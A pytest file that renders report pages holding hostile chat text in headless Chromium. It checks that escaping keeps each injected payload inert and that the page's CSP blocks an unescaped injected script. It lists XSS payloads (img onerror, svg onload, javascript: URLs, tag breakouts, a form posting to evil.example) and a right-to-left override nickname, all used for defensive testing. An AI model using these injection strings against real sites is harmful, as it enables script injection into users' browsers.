"""Hostile chat text in real headless Chromium, and the CSP as the second line of defence.

The escaping checks run on the report pages with their CSP REMOVED and a probe script added, so
they prove that escaping alone keeps every payload inert (the CSP would otherwise hide an escaping
bug). The CSP checks render a test-only template that injects a script UNESCAPED and show that
Chromium blocks it under the report's CSP (and runs it without). One Chromium run per page.
"""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import synthetic as syn
from htmlcheck import check_html
from jinja2 import ChoiceLoader, DictLoader
from test_browser import _run

from qa_inspect import schema as S
from qa_inspect.reports.data import ReportData
from qa_inspect.reports.render import agent_context, coaching_context, make_env, page_assets, render_merchant

pytestmark = pytest.mark.browser

# Each payload, if it ever ran, sets the title / adds an element whose text only exists if it ran.
PAYLOADS = [
    "<img src=x onerror=\"document.title='PW'+'N1'\">",
    "<a href=\"javascript:document.title='PW'+'N2'\">点我领券</a>",
    "</textarea><script>document.title='PW'+'N3'</script><textarea>",
    "<svg onload=\"document.title='PW'+'N4'\"><circle r=9></circle></svg>",
    "<svg><script>document.title='PW'+'N5'</script></svg>",
    "<iframe src=\"javascript:parent.document.title='PW'+'N6'\"></iframe>",
    "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,PW\">",
    "<style>body{display:none}</style><form action=\"https://evil.example\"><input name=q></form>",
    "\"><script>document.title='PW'+'N7'</script>",
    "'-alert(1)-'",
    "]]><!--<script>document.title='PW'+'N8'</script>-->",
]
HOSTILE2 = " ".join(PAYLOADS)
HOSTILE_NIGHT = "</text></svg><svg onload=\"document.title='PW'+'N9'\"><script>document.title='PW'+'N10'</script>]]>"
RLO_BUYER = "\u202eevil_buyer_gnp.exe"
LONG_WORD = "W" * 4000  # no break opportunity at all


def hostile_data() -> ReportData:
    """Synthetic data with the payloads in a chat message shown on agent, merchant and coaching pages,
    a buyer nickname with a right-to-left override, and unbreakable long words."""
    data = syn.build_report_data()
    msgs, conv, f = data.messages.copy(), data.conversations.copy(), data.findings.copy()
    cid = f"{syn.SHOP_A}:a1"
    last = (msgs[S.CONVERSATION_ID] == cid) & (msgs[S.SEQ] == 3)  # "好的亲": has a finding at 0..3
    msgs.loc[last, S.TEXT] = "好的亲 " + HOSTILE2 + " " + LONG_WORD
    msgs.loc[msgs[S.CONVERSATION_ID] == cid, S.CUSTOMER_ID] = RLO_BUYER
    conv.loc[conv[S.CONVERSATION_ID] == cid, S.CUSTOMER_ID] = RLO_BUYER
    slow = f[S.RULE_ID] == "RESP-SLOW"
    f.loc[slow, S.EXPLANATION] = "回复超过180秒 " + PAYLOADS[3] + " " + LONG_WORD
    # a night name is a chart label (the trend's x axis) and a title/tooltip text
    trend = pd.concat([data.trend, pd.DataFrame([{S.NIGHT: HOSTILE_NIGHT, S.AGENT_ID: syn.AGENT_A1,
                                                  "mean_total": 50.0, "n": 1}])], ignore_index=True)
    return replace(data, messages=msgs, conversations=conv, findings=f, trend=trend)


PROBE = r"""
(function () {
  var r = {title: document.title, scripts: document.scripts.length, pwned: !!document.getElementById("pwned")};
  r.sw = document.documentElement.scrollWidth; r.iw = window.innerWidth;
  r.active = [];
  document.querySelectorAll("*").forEach(function (e) {
    if (/^(img|svg|iframe|textarea|object|embed|form|input|meta|style|script|a)$/i.test(e.tagName)) {
      var ok = (e.tagName === "IMG" && /^data:image\/png;base64,/.test(e.getAttribute("src") || ""))
        || (e.tagName.toLowerCase() === "svg" && e.classList.contains("chart") && e.parentNode.classList.contains("grid2"))
        || (e.tagName === "META" && !e.hasAttribute("http-equiv") || (e.getAttribute("http-equiv") || "").toLowerCase() === "content-security-policy")
        || (e.tagName === "STYLE" && e.parentNode === document.head)
        || (e.tagName === "SCRIPT" && e.id === "probe")
        || (e.tagName === "A" && !/^\s*javascript:/i.test(e.getAttribute("href") || ""))
        || (e.tagName === "INPUT" && e.classList.contains("filter"));
      if (!ok) { r.active.push(e.outerHTML.slice(0, 80)); }
    }
    for (var i = 0; i < e.attributes.length; i++) {
      if (/^on/i.test(e.attributes[i].name)) { r.active.push("handler " + e.attributes[i].name); }
    }
  });
  // our charts: only drawing elements inside, and their text (a chart label) is plain text
  r.chartText = "";
  document.querySelectorAll("svg.chart").forEach(function (svg) {
    svg.querySelectorAll("*").forEach(function (e) {
      if (!/^(title|line|rect|text|polyline|circle)$/.test(e.tagName)) { r.active.push("in chart: " + e.tagName); }
    });
    r.chartText += svg.textContent;
  });
  r.charts = document.querySelectorAll("svg.chart").length;
  r.text = document.body.innerText.indexOf("<svg onload=") >= 0 && document.body.innerText.indexOf("</textarea>") >= 0;
  r.bidi = [];
  document.querySelectorAll(".who, .conv-head .muted").forEach(function (w) {
    var walker = document.createTreeWalker(w, NodeFilter.SHOW_TEXT), node, rlo = null;
    while ((node = walker.nextNode())) { if (node.data.indexOf("\u202e") >= 0) { rlo = node; break; } }
    if (!rlo) { return; }
    var range = document.createRange(); range.selectNodeContents(rlo);
    var after = document.createRange(); after.setStartAfter(rlo.parentNode === w ? rlo : rlo.parentNode);
    after.setEndAfter(w.lastChild);
    if (after.toString().trim() === "") { return; }  // nothing follows the nickname here
    var a = range.getBoundingClientRect(), b = after.getClientRects();
    // text after the nickname must still be laid out to its right (left-to-right page)
    r.bidi.push(b.length > 0 && b[0].left >= a.right - 1);
  });
  document.body.setAttribute("data-probe", JSON.stringify(r));
})();
"""


def _probe_page(html: str, path: Path) -> Path:
    """The page without its CSP and with the probe script: escaping must hold on its own."""
    html, n = re.subn(r'<meta http-equiv="Content-Security-Policy" content="[^"]*">', "", html)
    assert n == 1
    path.write_text(html.replace("</body>", f'<script id="probe">{PROBE}</script></body>'), encoding="utf-8")
    return path


def _probe(tmp_path: Path, page: Path) -> dict[str, Any]:
    res = _run(tmp_path, page, "--dump-dom", "--window-size=1280,900")
    assert res.returncode == 0, res.stderr[-2000:]
    m = re.search(r'data-probe="([^"]*)"', res.stdout)
    assert m, res.stdout[-2000:]
    import html as _html

    return dict(json.loads(_html.unescape(m.group(1))))


@pytest.fixture(scope="module")
def hostile_pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    from qa_inspect.reports.render import resolve_mask

    data, env, out = hostile_data(), make_env(), tmp_path_factory.mktemp("hostile")
    mask = resolve_mask(None)
    pages = {
        "agent": env.get_template("agent.html").render(agent_context(data, syn.AGENT_A1, mask=mask)),
        "merchant": render_merchant(data, syn.SHOP_A, mask=mask),
        "email": render_merchant(data, syn.SHOP_A, mask=mask, email=True),
        "coaching": env.get_template("coaching.html").render(coaching_context(data, mask)),
    }
    for name, html in pages.items():
        assert "PW'+'N4" in html or "PW&#39;+&#39;N4" in html, name  # the payload is on every page
    (out / "email.html").write_text(pages.pop("email"), encoding="utf-8")
    return {"email": out / "email.html", **{name: _probe_page(html, out / f"{name}.html") for name, html in pages.items()}}


@pytest.mark.parametrize("page", ["agent", "merchant", "coaching"])
def test_payloads_stay_text_even_without_csp(hostile_pages: dict[str, Path], tmp_path: Path, page: str) -> None:
    r = _probe(tmp_path, hostile_pages[page])
    assert "PW" not in r["title"] and not r["pwned"], r
    assert r["scripts"] == 1, r  # only the probe
    assert r["active"] == [], r["active"]
    assert r["text"], "the payloads must be shown literally"
    assert r["sw"] <= r["iw"], f"page {r['sw']}px wide in a {r['iw']}px window: long words do not wrap"
    if page == "agent":  # the hostile night is a trend-chart label: shown as text, inert
        assert r["charts"] == 3 and HOSTILE_NIGHT in r["chartText"], r["chartText"][-400:]
    if page == "agent":  # merchant pages and the coaching pack alias buyer nicknames
        assert r["bidi"] and all(r["bidi"]), "an RLO in a nickname reorders the text after it"


def test_email_body_has_no_active_content(hostile_pages: dict[str, Path]) -> None:
    from qa_inspect.reports.mail import inline_css

    html = inline_css(hostile_pages["email"].read_text(encoding="utf-8"))
    c = check_html(html)
    assert not [e for e in c.errors if "handler" in e], c.errors
    assert c.scripts == [] and not [link for link in c.links if not link.startswith("data:")], c.links
    for tag in ("<script", "<svg", "<img", "<iframe", "<textarea", "<form", "<a ", "<meta http-equiv=\"refresh"):
        assert tag not in html.lower(), tag
    assert "&lt;svg onload=" in html


# --- CSP: the second line of defence --------------------------------------------------------------

UNESCAPED = ('<script>document.title="PW"+"NED";</script><img src=x onerror="document.body.id=\'pw\'+\'ned\'">'
             '<table class="sortable"><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>')
TEST_TEMPLATE = '{% extends "base.html" %}{% block main %}{{ payload|safe }}{% endblock %}'


def _test_page(path: Path, *, script: bool, csp: bool) -> Path:
    env = make_env()
    env.loader = ChoiceLoader([DictLoader({"_test_unescaped.html": TEST_TEMPLATE}), env.loader])  # type: ignore[list-item]
    from qa_inspect.reports.labels import labels_for

    ctx = {"L": labels_for("zh-CN"), "lang": "zh-CN", "title": "t", "run_id": "r", "generated_at": "g",
           "root": "", "payload": UNESCAPED, **page_assets(script=script)}
    html = env.get_template("_test_unescaped.html").render(ctx)
    if not csp:
        html = re.sub(r'<meta http-equiv="Content-Security-Policy" content="[^"]*">', "", html)
    path.write_text(html, encoding="utf-8")
    return path


@pytest.mark.parametrize(("script", "csp"), [(False, True), (True, True), (False, False)])
def test_csp_blocks_a_script_that_escaped_escaping(tmp_path: Path, script: bool, csp: bool) -> None:
    res = _run(tmp_path, _test_page(tmp_path / "t.html", script=script, csp=csp), "--dump-dom")
    assert res.returncode == 0, res.stderr[-2000:]
    dom = res.stdout
    ran = "<title>PWNED</title>" in dom or 'id="pwned"' in dom
    if csp:
        assert not ran, "an injected inline script or handler ran under the report CSP"
        # the page's own script (allowed by hash) still runs next to the blocked one
        assert ('<th class="sortable">' in dom) == script
    else:
        assert ran  # without the CSP the same page runs it: the check above is not vacuous
